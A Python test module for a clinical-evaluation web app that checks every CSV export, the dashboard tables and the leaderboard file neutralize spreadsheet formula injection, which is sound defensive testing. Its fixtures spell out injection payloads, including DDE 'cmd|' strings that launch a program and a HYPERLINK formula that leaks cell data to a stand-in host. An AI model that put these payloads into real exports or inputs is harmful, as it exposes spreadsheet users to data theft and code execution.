"""Spreadsheet formula injection: no CSV the app writes holds a cell a spreadsheet would run.

A cell that starts with ``= + - @``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (``=HYPERLINK(...)`` leaks data, ``=cmd|...`` runs a
program on old Excel). Such texts can come from anyone who feeds the app: a study lead's
case file, a model's answer, a clinician's comment or reason. Every CSV export gets them
prefixed with ``'`` (exchange/export_writers.py).

The study here is built through the real import, rating and voting services with a
formula in every free-text field that reaches an export. Then every export the web route
offers (``KINDS`` x CSV, both rating shapes, with and without usernames) is read back and
*every cell* is checked: none may start with a trigger unless it is a plain number. So a
new export kind or a new text column is covered without naming it here. Each payload must
also be found, neutralized, where it belongs: the check cannot pass by missing the data.
The dashboard's table files and the leaderboard file (the other CSVs) are checked the same.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import gradio as gr
import pytest
from fastapi.testclient import TestClient

from medeval_ui.config import Settings
from medeval_ui.exchange.leaderboard_file import write_leaderboard
from medeval_ui.services import studies, users
from medeval_ui.services.annotation import next_item, submit_item
from medeval_ui.services.dashboard import study_dashboard
from medeval_ui.services.dashboard_filters import Filters
from medeval_ui.services.import_cases import import_cases
from medeval_ui.services.import_outputs import import_outputs
from medeval_ui.services.leaderboard import study_leaderboard
from medeval_ui.services.pairwise import next_pair, submit_vote
from medeval_ui.services.report import write_tables
from medeval_ui.storage.engine import Database
from medeval_ui.web.export_routes import KINDS, export_url
from medeval_ui.web.pages.lead_dashboard import build_report_files
from tests.helpers import WebApp, write_jsonl

pytestmark = [  # one app for all such modules, reset per test (conftest)
    pytest.mark.shared_app,
    pytest.mark.usefixtures("cheap_hasher"),
]

PW = "correct horse battery"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# One distinct formula per field, so a hit says which field it came from. Each starts
# with a different trigger; the tab and CR ones hide a formula behind the whitespace.
P_EXTERNAL_ID = "=cmd|' /C calc'!A0"
P_GROUP = "@SUM(1+1)*cmd|' /C calc'!G0"
P_PROMPT = '=HYPERLINK("http://evil.example/?leak="&A1,"prompt")'
P_REFERENCE = "\r+1+cmd|' /C calc'!R0"
P_SPECIALTY = "-2+3+cmd|' /C calc'!S0"
P_MODEL = '=HYPERLINK("http://evil.example/m","model")'
P_VERSION = "@version+1"
P_OUTPUT = "\t=1+1 (output text)"
P_COMMENT = "=1+1 (comment)"  # the service strips a comment: no leading whitespace
P_RATIONALE = "-1-1 (rationale)"
P_REASON = "@reason=1+1"
P_SKIP = "=skip()"


def build_payload_study(db: Database, settings: Settings, folder: Path) -> None:
    """A rating + pairwise study whose every free text is a formula, rated and voted on."""
    studies.create_study(
        db,
        "inj",
        "Injection",
        "xlingeval_correctness",
        modes=("rating", "pairwise"),
        ratings_per_output=1,
        votes_per_pair=1,
        show_reference=True,
    )
    cases = [
        {
            "external_id": P_EXTERNAL_ID,
            "group_id": P_GROUP,
            "language": "en",
            "specialty": P_SPECIALTY,
            "prompt": P_PROMPT,
            "reference_answer": P_REFERENCE,
        },
        {"external_id": "plain-2", "group_id": "g2", "language": "en", "prompt": "Plain?"},
    ]
    import_cases(db, settings, "inj", write_jsonl(folder / "cases.jsonl", cases))
    outputs = [
        {"case_id": c["external_id"], "model": m, "model_version": v, "sample": 0, "text": t}
        for c in cases
        for m, v, t in ((P_MODEL, P_VERSION, P_OUTPUT), ("plain-model", "1", "-5 mg"))
    ]
    import_outputs(db, "inj", write_jsonl(folder / "outputs.jsonl", outputs))
    users.add_user(db, "alice", "clinician", password=PW, languages=["en"])
    users.add_user(db, "lea", "lead", password=PW)
    users.add_user(db, "root", "admin", password=PW)
    while (item := next_item(db, "alice", "inj")) is not None:
        answers = {
            r.position: {"correctness": "contradictory", "rationale": P_RATIONALE}
            for r in item.responses
        }
        comments = {r.position: P_COMMENT for r in item.responses}
        submit_item(db, "alice", item.assignment_id, answers, {}, comments, item.client_token)
    pair = next_pair(db, "alice", "inj")
    assert pair is not None
    submit_vote(db, "alice", pair.assignment_id, "a", reason=P_REASON, client_token="t1")
    pair = next_pair(db, "alice", "inj")
    assert pair is not None
    submit_vote(db, "alice", pair.assignment_id, "tie", reason=P_SKIP, client_token="t2")


def dangerous_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting with a trigger and not a plain number."""
    bad = []
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS) and not _is_number(cell):
                bad.append(cell)
    return bad


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell  # "-5" is a number; "\t5" is not a plain one


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def neutralized(rows: list[list[str]]) -> set[str]:
    """The payloads found as cells (or inside a cell) with the quote in front."""
    cells = [cell for row in rows for cell in row]
    payloads = (
        P_EXTERNAL_ID,
        P_GROUP,
        P_PROMPT,
        P_REFERENCE,
        P_SPECIALTY,
        P_MODEL,
        P_VERSION,
        P_OUTPUT,
        P_COMMENT,
        P_RATIONALE,
        P_REASON,
        P_SKIP,
    )
    return {p for p in payloads if any(c == "'" + p or c.startswith("'" + p) for c in cells)}


@pytest.fixture
def admin_client(
    db: Database, settings: Settings, tmp_path: Path, web_app: WebApp
) -> Iterator[TestClient]:
    build_payload_study(db, settings, tmp_path)
    with TestClient(web_app(settings)) as client:
        login = client.post(
            "/login", data={"username": "root", "password": PW}, follow_redirects=False
        )
        assert login.status_code == 303
        yield client


# What each export must carry (neutralized): the test cannot pass by exporting nothing.
EXPECTED = {
    "cases": {P_EXTERNAL_ID, P_GROUP, P_PROMPT, P_REFERENCE, P_SPECIALTY},
    "outputs": {P_EXTERNAL_ID, P_MODEL, P_VERSION, P_OUTPUT},
    "ratings": {P_EXTERNAL_ID, P_MODEL, P_COMMENT, P_RATIONALE},
    "votes": {P_EXTERNAL_ID, P_REASON, P_SKIP},
}


def _variants() -> list[tuple[str, str, bool]]:
    out = []
    for kind in KINDS:
        shapes = ("long", "wide") if kind == "ratings" else ("long",)
        names = (False, True) if kind in ("ratings", "votes") else (False,)
        out += [(kind, shape, usernames) for shape in shapes for usernames in names]
    return out


@pytest.mark.parametrize(("kind", "shape", "usernames"), _variants())
def test_every_csv_export_neutralizes_every_formula(
    admin_client: TestClient, kind: str, shape: str, usernames: bool
) -> None:
    response = admin_client.get(export_url(kind, "csv", "inj", shape=shape, usernames=usernames))
    assert response.status_code == 200, response.text
    rows = read_csv(response.text)
    assert len(rows) > 1, "the export has data rows"
    assert dangerous_cells(rows) == []
    found = neutralized(rows)
    # A kind added to KINDS later must say here what it carries; until then any payload.
    assert found >= EXPECTED.get(kind, set()) and found, (kind, found)
    # Numbers stay numbers: a negative dose in a text stays text, quoted only if first.
    assert not any(cell.startswith("''") for row in rows for cell in row)


def test_the_same_texts_stay_verbatim_in_json_lines(admin_client: TestClient) -> None:
    """Neutralizing is for CSV only: JSON Lines keeps the stored text exactly."""
    ratings = admin_client.get(export_url("ratings", "jsonl", "inj")).text
    assert '"comment":"=1+1 (comment)"' in ratings and "'=1+1" not in ratings
    cases = admin_client.get(export_url("cases", "jsonl", "inj")).text
    assert '"reference_answer":"\\r+1+cmd' in cases and "'\\r" not in cases


def test_dashboard_tables_and_leaderboard_files_are_neutralized(
    db: Database, settings: Settings, tmp_path: Path
) -> None:
    build_payload_study(db, settings, tmp_path)
    dashboard = study_dashboard(db, "inj", rounds=20)
    tables = write_tables(dashboard, tmp_path / "tables", "csv")
    assert tables
    seen: set[str] = set()
    for path in tables:
        rows = read_csv(path.read_text(encoding="utf-8"))
        assert dangerous_cells(rows) == [], path.name
        seen |= neutralized(rows)
    assert P_MODEL in seen  # the model name is in the per-model tables

    # The lead page's "report" download: the zip of the same tables.
    html, archive = build_report_files(db, "inj", Filters(), gr.Request(username="lea"))
    with zipfile.ZipFile(archive) as zf:
        names = zf.namelist()
        assert names
        for name in names:
            rows = read_csv(zf.read(name).decode("utf-8"))
            assert dangerous_cells(rows) == [], name
    assert Path(html).exists()

    report = study_leaderboard(db, "inj", rounds=20)
    board = tmp_path / "board.csv"
    write_leaderboard(report.rows, board)
    rows = read_csv(board.read_text(encoding="utf-8"))
    assert dangerous_cells(rows) == []
    assert any(cell.startswith("'" + P_MODEL) for row in rows for cell in row), rows


def test_the_cell_check_itself_finds_formulas() -> None:
    """The check above is able to fail: raw payloads and a shifted trigger are caught."""
    rows = [["=1+1", "-5", "'=1", "ok"], ["\t=1", "+", "@x", "1e5"], ["\r=2", "-", " -3"]]
    assert dangerous_cells(rows) == ["=1+1", "\t=1", "+", "@x", "\r=2", "-"]
    assert neutralized([["'" + P_PROMPT, P_MODEL]]) == {P_PROMPT}
